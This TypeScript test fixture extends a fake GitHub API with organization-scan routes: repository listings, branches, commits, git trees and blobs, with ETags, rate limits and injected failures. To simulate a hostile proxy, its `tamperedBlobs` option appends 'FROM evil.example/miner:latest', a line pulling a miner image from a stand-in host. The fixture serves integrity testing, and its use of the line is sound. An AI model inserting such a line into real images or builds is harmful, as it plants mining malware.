// The GitHub REST operations an organization scan uses, added to the fake GitHub API
// (github-api.ts) as routes:
//   GET /orgs/{org}/repos, GET /users/{user}/repos      the owner's repositories (paged, Link)
//   GET /repos/{o}/{r}                                  one repository
//   GET /repos/{o}/{r}/branches/{branch}                a branch and its head commit
//   GET /repos/{o}/{r}/commits/{ref}                    a commit
//   GET /repos/{o}/{r}/git/trees/{sha}?recursive=1      the tree (with `truncated`)
//   GET /repos/{o}/{r}/git/blobs/{sha}                  a blob (base64)
// A repository marked `empty` (created, never pushed) answers as GitHub does: `size` 0 in the
// listing, 404 "Branch not found" on its branch, 409 "Git Repository is empty." on commits and trees.
// Every 200 answer carries an ETag and the rate-limit headers; an If-None-Match that matches is a
// 304 that does not count against the limit, as on GitHub. `rate.remaining` at 0 answers 403 with
// x-ratelimit-remaining 0 and the reset time (the primary limit); each number queued in
// `secondary` answers one request 403 "secondary rate limit" with that retry-after.
import { createHash } from 'node:crypto';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { githubPage, type FakeGitHub } from './github-api';

export interface OrgRepoSpec {
  name: string;
  /** path -> text */
  files: Record<string, string>;
  private?: boolean;
  /** GitHub's `visibility`; default from `private`. */
  visibility?: 'public' | 'private' | 'internal';
  archived?: boolean;
  fork?: boolean;
  defaultBranch?: string;
  /** path -> link target (mode 120000) */
  symlinks?: Record<string, string>;
  /** paths of submodules (mode 160000) */
  submodules?: string[];
  /** The tree answer says `truncated: true` (GitHub's 100 000 entries / 7 MB). */
  truncated?: boolean;
  /** Created and never pushed to: no commit, no tree (`files` is then ignored). */
  empty?: boolean;
  /** GitHub's `size` in KiB; default 0 when `empty`, else from the files (at least 1). */
  size?: number;
  /** The branch (head) or the tree answers this status instead. */
  fail?: { branch?: number; tree?: number; blob?: number };
  /** Blob answers carry other bytes than their SHA names (a broken or hostile proxy). */
  tamperedBlobs?: boolean;
}

export interface OrgSpec {
  login: string;
  type?: 'Organization' | 'User';
  repos: OrgRepoSpec[];
}

interface TreeEntry {
  path: string;
  mode: string;
  type: 'blob' | 'tree' | 'commit';
  sha: string;
  size?: number;
}

interface RepoState {
  spec: OrgRepoSpec;
  id: number;
  commit: string;
  tree: string;
  entries: TreeEntry[];
}

export interface FakeOrgApi {
  /** owner login -> repository name -> state */
  owners: Map<string, { type: 'Organization' | 'User'; repos: Map<string, RepoState> }>;
  /** The primary limit: `remaining` drops with every 200 answer (not with a 304). */
  rate: { limit: number; remaining: number; reset: number };
  /** Seconds of retry-after, one per request answered with a secondary limit. */
  secondary: number[];
  /** The status of the secondary answers (403 or 429, as GitHub sends both). */
  secondaryStatus: 403 | 429;
  /** The head commit read of a repository. */
  commitOf(owner: string, name: string): string;
  /** Changes (or, with null, deletes) a file: a new commit on the default branch. */
  setFile(owner: string, name: string, path: string, text: string | null): void;
  /** Requests answered per route kind ('list', 'branch', 'tree', 'blob', ...) with 200, and 304s. */
  counts: Record<string, number>;
}

/** Git's blob id: sha-1 of `blob <size>\0<content>`. */
export function gitBlobSha(text: string): string {
  const body = Buffer.from(text, 'utf8');
  return createHash('sha1').update(`blob ${body.length}\0`).update(body).digest('hex');
}

const sha1 = (text: string) => createHash('sha1').update(text).digest('hex');

function buildRepo(spec: OrgRepoSpec, id: number, generation: number): RepoState {
  const entries: TreeEntry[] = [];
  const dirs = new Set<string>();
  const addDirs = (path: string) => {
    const parts = path.split('/');
    for (let i = 1; i < parts.length; i++) dirs.add(parts.slice(0, i).join('/'));
  };
  for (const [path, text] of Object.entries(spec.files)) {
    addDirs(path);
    entries.push({ path, mode: '100644', type: 'blob', sha: gitBlobSha(text), size: Buffer.byteLength(text) });
  }
  for (const [path, target] of Object.entries(spec.symlinks ?? {})) {
    addDirs(path);
    entries.push({ path, mode: '120000', type: 'blob', sha: gitBlobSha(target), size: Buffer.byteLength(target) });
  }
  for (const path of spec.submodules ?? []) {
    addDirs(path);
    entries.push({ path, mode: '160000', type: 'commit', sha: sha1(`submodule ${path}`) });
  }
  // Deepest first, so that each tree's subtrees have their SHA when it is written.
  for (const dir of [...dirs].sort((a, b) => b.split('/').length - a.split('/').length))
    entries.push({ path: dir, mode: '040000', type: 'tree', sha: gitTreeSha(entries, dir) });
  entries.sort((a, b) => (a.path < b.path ? -1 : a.path > b.path ? 1 : 0));
  const tree = gitTreeSha(entries, '');
  return { spec, id, entries, tree, commit: sha1(`commit ${tree} ${generation}`) };
}

/** Git's id of the tree at `dir` ('' the root): `tree <size>\0` and `<mode> <name>\0<20 bytes>` per child, in git's order. */
function gitTreeSha(entries: readonly TreeEntry[], dir: string): string {
  const prefix = dir === '' ? '' : `${dir}/`;
  const children = entries
    .filter((e) => e.path.startsWith(prefix) && !e.path.slice(prefix.length).includes('/'))
    .map((e) => ({ ...e, name: e.path.slice(prefix.length) }))
    // git compares names as bytes, a tree's as if it ended in '/'.
    .sort((a, b) =>
      Buffer.compare(
        Buffer.from(a.type === 'tree' ? `${a.name}/` : a.name),
        Buffer.from(b.type === 'tree' ? `${b.name}/` : b.name),
      ),
    );
  const body = Buffer.concat(
    children.flatMap((e) => [Buffer.from(`${e.mode.replace(/^0/, '')} ${e.name}\0`), Buffer.from(e.sha, 'hex')]),
  );
  return createHash('sha1').update(`tree ${body.length}\0`).update(body).digest('hex');
}

/** Serves `owners` on the fake GitHub API; returns the handle tests change and read. */
export function serveOrganizations(fake: FakeGitHub, specs: OrgSpec[], maxPerPage = 100): FakeOrgApi {
  let nextId = 1;
  let generation = 0;
  const blobs = new Map<string, string>();
  const api: FakeOrgApi = {
    owners: new Map(),
    rate: { limit: 5000, remaining: 5000, reset: Math.floor(Date.now() / 1000) + 3600 },
    secondary: [],
    secondaryStatus: 403,
    counts: {},
    commitOf: (owner, name) => repoState(owner, name).commit,
    setFile(owner, name, path, text) {
      const state = repoState(owner, name);
      const files = { ...state.spec.files };
      if (text === null) delete files[path];
      else files[path] = text;
      const next = buildRepo({ ...state.spec, files }, state.id, ++generation);
      api.owners.get(owner)!.repos.set(name, next);
      for (const t of Object.values(files)) blobs.set(gitBlobSha(t), t);
    },
  };
  const repoState = (owner: string, name: string) => {
    const state = api.owners.get(owner)?.repos.get(name);
    if (!state) throw new Error(`no repository ${owner}/${name}`);
    return state;
  };
  for (const spec of specs) {
    const repos = new Map<string, RepoState>();
    for (const repo of spec.repos) {
      repos.set(repo.name, buildRepo(repo, nextId++, 0));
      for (const t of [...Object.values(repo.files), ...Object.values(repo.symlinks ?? {})])
        blobs.set(gitBlobSha(t), t);
    }
    api.owners.set(spec.login, { type: spec.type ?? 'Organization', repos });
  }
  fake.routes.push((req, url, res) => route(api, blobs, maxPerPage, req, url, res));
  return api;
}

const repoJson = (owner: string, state: RepoState) => ({
  id: state.id,
  name: state.spec.name,
  full_name: `${owner}/${state.spec.name}`,
  owner: { login: owner },
  private: state.spec.private ?? false,
  visibility: state.spec.visibility ?? (state.spec.private ? 'private' : 'public'),
  archived: state.spec.archived ?? false,
  fork: state.spec.fork ?? false,
  default_branch: state.spec.defaultBranch ?? 'main',
  size: state.spec.size ?? (state.spec.empty ? 0 : Math.max(1, Math.ceil(bytesOf(state.spec) / 1024))),
});

const bytesOf = (spec: OrgRepoSpec) => Object.values(spec.files).reduce((n, t) => n + Buffer.byteLength(t), 0);

const githubError = (status: number, message: string) => ({
  message,
  documentation_url: 'https://docs.github.com/rest',
  status: String(status),
});

/** What GitHub answers about a repository never pushed to: the branch is not found, commits and trees have none. */
function emptyAnswer(rest: string): { kind: string; status: number; body: unknown } | null {
  if (rest.startsWith('branches/')) return { kind: 'branch', status: 404, body: githubError(404, 'Branch not found') };
  const kind = rest.startsWith('commits') ? 'commit' : rest.startsWith('git/trees/') ? 'tree' : null;
  return kind ? { kind, status: 409, body: githubError(409, 'Git Repository is empty.') } : null;
}

/** The answer of one request, before ETags and limits: status and body, or null (not ours). */
function answer(
  api: FakeOrgApi,
  blobs: Map<string, string>,
  url: URL,
): { kind: string; status: number; body: unknown; items?: unknown[] } | null {
  const path = decodeURIComponent(url.pathname);
  const notFound = githubError(404, 'Not Found');
  let m: RegExpExecArray | null;
  if ((m = /^\/(orgs|users)\/([^/]+)\/repos$/.exec(path))) {
    const owner = api.owners.get(m[2]!);
    // /orgs/{user}/repos is a 404, as on GitHub; /users/{org}/repos lists an organization too.
    if (!owner || (m[1] === 'orgs' && owner.type !== 'Organization'))
      return { kind: 'list', status: 404, body: notFound };
    const items = [...owner.repos.values()].sort((a, b) => a.id - b.id).map((r) => repoJson(m![2]!, r));
    return { kind: 'list', status: 200, body: null, items };
  }
  if (!(m = /^\/repos\/([^/]+)\/([^/]+)(?:\/(.*))?$/.exec(path))) return null;
  const [, ownerName, repoName, rest = ''] = m;
  const state = api.owners.get(ownerName!)?.repos.get(repoName!);
  if (!state) return { kind: 'repo', status: 404, body: notFound };
  const fail = state.spec.fail ?? {};
  const commitJson = { sha: state.commit, commit: { tree: { sha: state.tree } } };
  if (rest === '') return { kind: 'repo', status: 200, body: repoJson(ownerName!, state) };
  if (state.spec.empty) return emptyAnswer(rest) ?? { kind: 'repo', status: 404, body: notFound };
  if ((m = /^branches\/(.+)$/.exec(rest))) {
    if (fail.branch) return { kind: 'branch', status: fail.branch, body: { message: `emulated ${fail.branch}` } };
    if (m[1] !== (state.spec.defaultBranch ?? 'main')) return { kind: 'branch', status: 404, body: notFound };
    return { kind: 'branch', status: 200, body: { name: m[1], commit: commitJson } };
  }
  if ((m = /^commits\/(.+)$/.exec(rest))) {
    const known = m[1] === state.commit || m[1] === (state.spec.defaultBranch ?? 'main');
    return known ? { kind: 'commit', status: 200, body: commitJson } : { kind: 'commit', status: 404, body: notFound };
  }
  if ((m = /^git\/trees\/([0-9a-f]{40})$/.exec(rest))) {
    if (fail.tree) return { kind: 'tree', status: fail.tree, body: { message: `emulated ${fail.tree}` } };
    if (m[1] !== state.tree) return { kind: 'tree', status: 404, body: notFound };
    const recursive = url.searchParams.get('recursive') !== null;
    const entries = recursive ? state.entries : state.entries.filter((e) => !e.path.includes('/'));
    const shown = state.spec.truncated ? entries.slice(0, Math.ceil(entries.length / 2)) : entries;
    return { kind: 'tree', status: 200, body: { sha: state.tree, tree: shown, truncated: !!state.spec.truncated } };
  }
  if ((m = /^git\/blobs\/([0-9a-f]{40})$/.exec(rest))) {
    if (fail.blob) return { kind: 'blob', status: fail.blob, body: { message: `emulated ${fail.blob}` } };
    const text = state.entries.some((e) => e.sha === m![1]) ? blobs.get(m[1]!) : undefined;
    if (text === undefined) return { kind: 'blob', status: 404, body: notFound };
    const content = Buffer.from(state.spec.tamperedBlobs ? `${text}FROM evil.example/miner:latest\n` : text)
      .toString('base64')
      .replace(/(.{60})/g, '$1\n');
    return {
      kind: 'blob',
      status: 200,
      body: { sha: m[1], size: Buffer.byteLength(text), encoding: 'base64', content },
    };
  }
  return null;
}

function route(
  api: FakeOrgApi,
  blobs: Map<string, string>,
  maxPerPage: number,
  req: IncomingMessage,
  url: URL,
  res: ServerResponse,
): boolean {
  if (req.method !== 'GET') return false;
  const found = answer(api, blobs, url);
  if (!found) return false;
  const count = (kind: string) => (api.counts[kind] = (api.counts[kind] ?? 0) + 1);
  const now = Math.floor(Date.now() / 1000);
  if (api.rate.remaining <= 0 && now >= api.rate.reset) api.rate.remaining = api.rate.limit;
  const rateHeaders = () => ({
    'x-ratelimit-limit': String(api.rate.limit),
    'x-ratelimit-remaining': String(Math.max(0, api.rate.remaining)),
    'x-ratelimit-reset': String(api.rate.reset),
    'x-ratelimit-resource': 'core',
  });
  const retryAfter = api.secondary.shift();
  if (retryAfter !== undefined) {
    count('secondary');
    return json(
      res,
      api.secondaryStatus,
      { message: 'You have exceeded a secondary rate limit. Please wait a few minutes before you try again.' },
      {
        'retry-after': String(retryAfter),
        ...rateHeaders(),
      },
    );
  }
  if (api.rate.remaining <= 0) {
    count('limited');
    return json(res, 403, { message: 'API rate limit exceeded for installation.' }, rateHeaders());
  }
  if (found.status !== 200) {
    api.rate.remaining--;
    count(`${found.kind}-${found.status}`);
    return json(res, found.status, found.body, rateHeaders());
  }
  let headers: Record<string, string> = {};
  let body = found.body;
  if (found.items) ({ slice: body, headers } = githubPage(found.items, req, url, maxPerPage));
  const text = JSON.stringify(body);
  const etag = `W/"${createHash('sha1')
    .update(text)
    .update(headers.link ?? '')
    .digest('hex')}"`;
  if (req.headers['if-none-match'] === etag) {
    count(`${found.kind}-304`);
    res.writeHead(304, { etag, ...rateHeaders() });
    res.end();
    return true;
  }
  api.rate.remaining--;
  count(found.kind);
  return json(res, 200, body, { etag, ...headers, ...rateHeaders() });
}

function json(res: ServerResponse, status: number, body: unknown, headers: Record<string, string>): true {
  res.writeHead(status, { 'content-type': 'application/json; charset=utf-8', ...headers });
  res.end(JSON.stringify(body));
  return true;
}
